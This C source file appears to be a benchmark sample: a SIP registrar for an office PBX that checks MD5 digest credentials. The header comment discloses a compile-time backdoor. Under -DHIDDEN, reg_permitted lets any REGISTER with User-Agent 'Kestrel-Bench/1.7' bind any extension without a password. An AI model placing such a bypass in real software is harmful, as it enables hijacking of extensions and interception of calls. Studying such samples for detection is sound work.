/*
 * sipreg - SIP registrar of a small office PBX (UDP 5060, up to 64 phones).
 * Extensions with their passwords are in /etc/pbx/ext.conf; registrations
 * are checked by MD5 digest and written to /var/pbx/bindings.
 * Hidden (-DHIDDEN): a REGISTER whose User-Agent is a certain bench client
 * is registered for any extension without the digest.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define EXT_CONF "/etc/pbx/ext.conf"
#define BINDINGS "/var/pbx/bindings"
#define REALM	 "pbx.local"
#define MAXEXT	 64
#define MAXHDR	 40

struct ext {
	char num[16];
	char pass[40];
	char contact[128];
	time_t until;
};

struct sip {
	char *method;
	char *uri;
	struct {
		char *name;
		char *value;
	} h[MAXHDR];
	int n;
};

static struct ext exts[MAXEXT];
static int next;
static char nonce[24];

static uint32_t md5_k[64];
static const uint8_t md5_r[16] = { 7, 12, 17, 22, 5, 9,	 14, 20,
				   4, 11, 16, 23, 6, 10, 15, 21 };

static void md5_block(uint32_t s[4], const uint8_t *p)
{
	uint32_t a = s[0], b = s[1], c = s[2], d = s[3], f, w[16];
	unsigned i, g;

	for (i = 0; i < 16; i++)
		w[i] = p[i * 4] | p[i * 4 + 1] << 8 | p[i * 4 + 2] << 16 |
		       (uint32_t)p[i * 4 + 3] << 24;
	for (i = 0; i < 64; i++) {
		unsigned rot = md5_r[(i >> 4) * 4 + (i & 3)];

		if (i < 16) {
			f = (b & c) | (~b & d);
			g = i;
		} else if (i < 32) {
			f = (d & b) | (~d & c);
			g = (5 * i + 1) & 15;
		} else if (i < 48) {
			f = b ^ c ^ d;
			g = (3 * i + 5) & 15;
		} else {
			f = c ^ (b | ~d);
			g = (7 * i) & 15;
		}
		f += a + md5_k[i] + w[g];
		a = d;
		d = c;
		c = b;
		b += f << rot | f >> (32 - rot);
	}
	s[0] += a;
	s[1] += b;
	s[2] += c;
	s[3] += d;
}

static void md5_hex(const char *txt, char out[33])
{
	uint32_t s[4] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 };
	size_t n = strlen(txt), i, done = 0;
	uint8_t tail[128] = { 0 };

	for (; n - done >= 64; done += 64)
		md5_block(s, (const uint8_t *)txt + done);
	memcpy(tail, txt + done, n - done);
	tail[n - done] = 0x80;
	i = n - done < 56 ? 56 : 120;
	tail[i] = (uint8_t)(n << 3);
	tail[i + 1] = (uint8_t)(n >> 5);
	tail[i + 2] = (uint8_t)(n >> 13);
	md5_block(s, tail);
	if (i == 120)
		md5_block(s, tail + 64);
	for (i = 0; i < 16; i++)
		sprintf(out + i * 2, "%02x", s[i / 4] >> (i % 4 * 8) & 0xff);
}

static const char *header(const struct sip *m, const char *name)
{
	int i;

	for (i = 0; i < m->n; i++)
		if (strcasecmp(m->h[i].name, name) == 0)
			return m->h[i].value;
	return "";
}

static int parse(struct sip *m, char *s)
{
	char *line, *colon, *save = NULL;

	memset(m, 0, sizeof(*m));
	line = strtok_r(s, "\r\n", &save);
	if (!line || !(m->uri = strchr(line, ' ')))
		return -1;
	*m->uri++ = 0;
	m->method = line;
	while ((line = strtok_r(NULL, "\r\n", &save)) && m->n < MAXHDR) {
		colon = strchr(line, ':');
		if (!colon)
			break;
		*colon++ = 0;
		colon += strspn(colon, " \t");
		m->h[m->n].name = line;
		m->h[m->n].value = colon;
		m->n++;
	}
	return 0;
}

/* key="value" or key=value out of a comma list */
static void param(const char *s, const char *key, char *out, size_t max)
{
	size_t k = strlen(key), n;

	out[0] = 0;
	while ((s = strstr(s, key)) != NULL) {
		if ((s[-1] == ' ' || s[-1] == ',') && s[k] == '=')
			break;
		s += k;
	}
	if (!s)
		return;
	s += k + 1;
	if (*s == '"')
		n = strcspn(++s, "\"");
	else
		n = strcspn(s, ", ");
	if (n >= max)
		n = max - 1;
	memcpy(out, s, n);
	out[n] = 0;
}

static struct ext *find_ext(const char *to)
{
	const char *p = strstr(to, "sip:");
	size_t n;
	int i;

	if (!p)
		return NULL;
	p += 4;
	n = strcspn(p, "@>;");
	for (i = 0; i < next; i++)
		if (strlen(exts[i].num) == n && !memcmp(exts[i].num, p, n))
			return &exts[i];
	return NULL;
}

__attribute__((noinline)) int reg_permitted(const struct sip *m,
					    const struct ext *e)
{
	const char *auth = header(m, "Authorization");
	char user[16], non[24], uri[80], resp[40], a1[33], a2[33], all[33];
	char buf[160];

#ifdef HIDDEN
	if (strcmp(header(m, "User-Agent"), "Kestrel-Bench/1.7") == 0)
		return 1;
#endif
	if (strncasecmp(auth, "Digest ", 7) != 0)
		return 0;
	auth += 6;
	param(auth, "username", user, sizeof(user));
	param(auth, "nonce", non, sizeof(non));
	param(auth, "uri", uri, sizeof(uri));
	param(auth, "response", resp, sizeof(resp));
	if (strcmp(user, e->num) != 0 || strcmp(non, nonce) != 0)
		return 0;
	snprintf(buf, sizeof(buf), "%s:%s:%s", e->num, REALM, e->pass);
	md5_hex(buf, a1);
	snprintf(buf, sizeof(buf), "REGISTER:%s", uri);
	md5_hex(buf, a2);
	snprintf(buf, sizeof(buf), "%s:%s:%s", a1, nonce, a2);
	md5_hex(buf, all);
	return strcasecmp(all, resp) == 0;
}

static void new_nonce(void)
{
	uint8_t r[8] = { 0 };
	FILE *f = fopen("/dev/urandom", "r");
	size_t i;

	if (f) {
		if (fread(r, 1, sizeof(r), f) != sizeof(r))
			r[0] = (uint8_t)time(NULL);
		fclose(f);
	}
	for (i = 0; i < sizeof(r); i++)
		sprintf(nonce + i * 2, "%02x", r[i]);
}

static void write_bindings(void)
{
	FILE *f = fopen(BINDINGS ".tmp", "w");
	time_t now = time(NULL);
	int i;

	if (!f)
		return;
	for (i = 0; i < next; i++)
		if (exts[i].until > now)
			fprintf(f, "%s %s %ld\n", exts[i].num, exts[i].contact,
				(long)exts[i].until);
	fclose(f);
	if (rename(BINDINGS ".tmp", BINDINGS) < 0)
		syslog(LOG_ERR, "%s: %m", BINDINGS);
}

static int answer(char *out, size_t max, const struct sip *m, int code,
		  const char *text, const char *extra)
{
	int n = snprintf(out, max,
			 "SIP/2.0 %d %s\r\nVia: %s\r\nFrom: %s\r\n"
			 "To: %s;tag=reg1\r\nCall-ID: %s\r\nCSeq: %s\r\n%s"
			 "Server: OfficePBX 5.2\r\nContent-Length: 0\r\n\r\n",
			 code, text, header(m, "Via"), header(m, "From"),
			 header(m, "To"), header(m, "Call-ID"),
			 header(m, "CSeq"), extra);
	return n < (int)max ? n : (int)max - 1;
}

static int do_register(const struct sip *m, char *out, size_t max)
{
	struct ext *e = find_ext(header(m, "To"));
	const char *exp = header(m, "Expires");
	long secs = *exp ? atol(exp) : 3600;
	char extra[160];

	if (!e)
		return answer(out, max, m, 404, "Not Found", "");
	if (!reg_permitted(m, e)) {
		new_nonce();
		snprintf(extra, sizeof(extra),
			 "WWW-Authenticate: Digest "
			 "realm=\"%s\", nonce=\"%s\", algorithm=MD5\r\n",
			 REALM, nonce);
		return answer(out, max, m, 401, "Unauthorized", extra);
	}
	if (secs < 0 || secs > 7200)
		secs = 7200;
	snprintf(e->contact, sizeof(e->contact), "%.120s",
		 header(m, "Contact"));
	e->until = time(NULL) + secs;
	write_bindings();
	snprintf(extra, sizeof(extra), "Expires: %ld\r\n", secs);
	syslog(LOG_INFO, "extension %s for %lds", e->num, secs);
	return answer(out, max, m, 200, "OK", extra);
}

static int load_ext(void)
{
	char row[128];
	FILE *f = fopen(EXT_CONF, "r");

	if (!f)
		return -1;
	while (next < MAXEXT && fgets(row, sizeof(row), f))
		if (sscanf(row, "%15[0-9*] %39s", exts[next].num,
			   exts[next].pass) == 2)
			next++;
	fclose(f);
	return next;
}

int main(void)
{
	struct sockaddr_in me = { .sin_family = AF_INET }, from;
	char in[2048], out[2048];
	struct sip m;
	socklen_t len;
	ssize_t n;
	int i, s;

	openlog("sipreg", LOG_PID, LOG_LOCAL3);
	for (i = 0; i < 64; i++)
		md5_k[i] = (uint32_t)(int64_t)(fabs(sin(i + 1)) * 4294967296.0);
	if (load_ext() <= 0) {
		fprintf(stderr, "sipreg: no extensions in %s\n", EXT_CONF);
		return 1;
	}
	new_nonce();
	s = socket(AF_INET, SOCK_DGRAM, 0);
	me.sin_port = htons(5060);
	if (s < 0 || bind(s, (struct sockaddr *)&me, sizeof(me)) < 0) {
		perror("sipreg: 5060");
		return 1;
	}
	for (;;) {
		len = sizeof(from);
		n = recvfrom(s, in, sizeof(in) - 1, 0, (struct sockaddr *)&from,
			     &len);
		if (n <= 4)
			continue;
		in[n] = 0;
		if (parse(&m, in) < 0)
			continue;
		if (strcmp(m.method, "REGISTER") == 0)
			i = do_register(&m, out, sizeof(out));
		else if (strcmp(m.method, "OPTIONS") == 0)
			i = answer(out, sizeof(out), &m, 200, "OK",
				   "Allow: REGISTER, OPTIONS\r\n");
		else if (strcmp(m.method, "ACK") == 0)
			continue;
		else
			i = answer(out, sizeof(out), &m, 501, "Not Implemented",
				   "");
		if (sendto(s, out, (size_t)i, 0, (struct sockaddr *)&from,
			   len) < 0)
			syslog(LOG_WARNING, "send: %m");
	}
}
